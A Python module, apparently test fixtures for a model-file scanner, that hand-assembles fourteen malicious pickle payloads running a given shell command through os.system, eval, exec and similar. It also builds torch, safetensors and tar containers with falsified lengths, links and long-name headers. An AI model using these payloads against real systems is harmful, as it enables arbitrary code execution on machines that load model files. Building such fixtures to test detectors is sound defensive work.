"""Hostile pickles, written out instruction by instruction, and the containers they come in.

Each runs a shell command if any part of it is carried out by Python's own unpickler.
"""

from __future__ import annotations

import io
import struct
import tarfile
import zipfile
from collections.abc import Callable, Mapping


def pickles(command: str) -> dict[str, bytes]:
    """Pickles that run `command`, by how they ask for it."""
    shell = command.encode()
    code = f"__import__('os').system({command!r})".encode()
    short = b"\x8c" + bytes([len(shell)]) + shell
    return {
        "GLOBAL and REDUCE": b"cos\nsystem\n(V" + shell + b"\ntR.",
        "STACK_GLOBAL": b"\x80\x04\x8c\x05posix\x8c\x06system\x93" + short + b"\x85R.",
        "INST": b"(V" + shell + b"\nios\nsystem\n.",
        "OBJ": b"(cos\nsystem\nV" + shell + b"\no.",
        "NEWOBJ": b"\x80\x02cbuiltins\ntuple\n(cbuiltins\nmap\n(cos\nsystem\n(lV" + shell + b"\nat\x81t\x81.",
        "NEWOBJ_EX": b"\x80\x04cbuiltins\ntuple\n(cbuiltins\nmap\n(cos\nsystem\n(lV" + shell + b"\nat}\x92t}\x92.",
        "eval": b"cbuiltins\neval\n(V" + code + b"\ntR.",
        "exec": b"cbuiltins\nexec\n(V" + code + b"\ntR.",
        "getattr": b"cbuiltins\ngetattr\n(cos\nsystem\nV__call__\ntR(V" + shell + b"\ntR.",
        "map, and list around it": b"cbuiltins\nlist\n(cbuiltins\nmap\n(cos\nsystem\n(lV" + shell + b"\natRtR.",
        "timeit": b"ctimeit\ntimeit\n(V" + code + b"\nVpass\nctimeit\ndefault_timer\nK\x01tR.",
        "a state that is set by a function": b"ccollections\nOrderedDict\n)R}V__setstate__\ncos\nsystem\nsbV"
        + shell
        + b"\nb.",
        "a function among tensors": b"}Vweight\ncos\nsystem\n(V" + shell + b"\ntRs.",
        "an object outside the file": b"cos\nsystem\n(V" + shell + b"\ntRQ.",
    }


def torch_zip(data_pkl: bytes, extra: Mapping[str, bytes] | None = None, *, method: int = zipfile.ZIP_STORED) -> bytes:
    """A file as `torch.save` writes it, around any pickle."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, body in {"data.pkl": data_pkl, "byteorder": b"little", "version": b"3\n", **(extra or {})}.items():
            archive.writestr(f"archive/{name}", body)
    return buffer.getvalue()


def torch_legacy(pickle: bytes, place: int = 3) -> bytes:
    """The older format, five pickles in a row, the one at `place` being `pickle`."""
    magic = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."
    machine = b"\x80\x02}(X\x10\x00\x00\x00protocol_versionM\xe9\x03X\r\x00\x00\x00little_endian\x88u."
    parts = [magic, b"\x80\x02M\xe9\x03.", machine, b"\x80\x02}.", b"\x80\x02]."]
    return b"".join([*parts[:place], pickle, *parts[place + 1 :]])


def safetensors(header: bytes, body: bytes = b"", length: int | None = None) -> bytes:
    """A safetensors file with any header, whose length may be a lie."""
    return struct.pack("<Q", len(header) if length is None else length) + header + body


Member = tuple[tarfile.TarInfo, bytes]


def member(name: str, body: bytes = b"", *, kind: bytes = tarfile.REGTYPE, link: str = "") -> Member:
    """One member of a tar file."""
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.size = kind, link, len(body)
    return info, body


def tar(*members: Member, mode: str = "w", change: Callable[[bytes], bytes] = bytes) -> bytes:
    """A tar file of members, compressed with `mode` "w:gz"."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode) as archive:  # type: ignore[call-overload]
        for info, body in members:
            archive.addfile(info, io.BytesIO(body))
    return change(buffer.getvalue())


def long_header(kind: bytes, size: int) -> bytes:
    """The header of a member that says: the next `size` bytes are only a name."""
    info = tarfile.TarInfo("././@LongLink")
    info.type, info.size = kind, size
    return info.tobuf(tarfile.GNU_FORMAT)
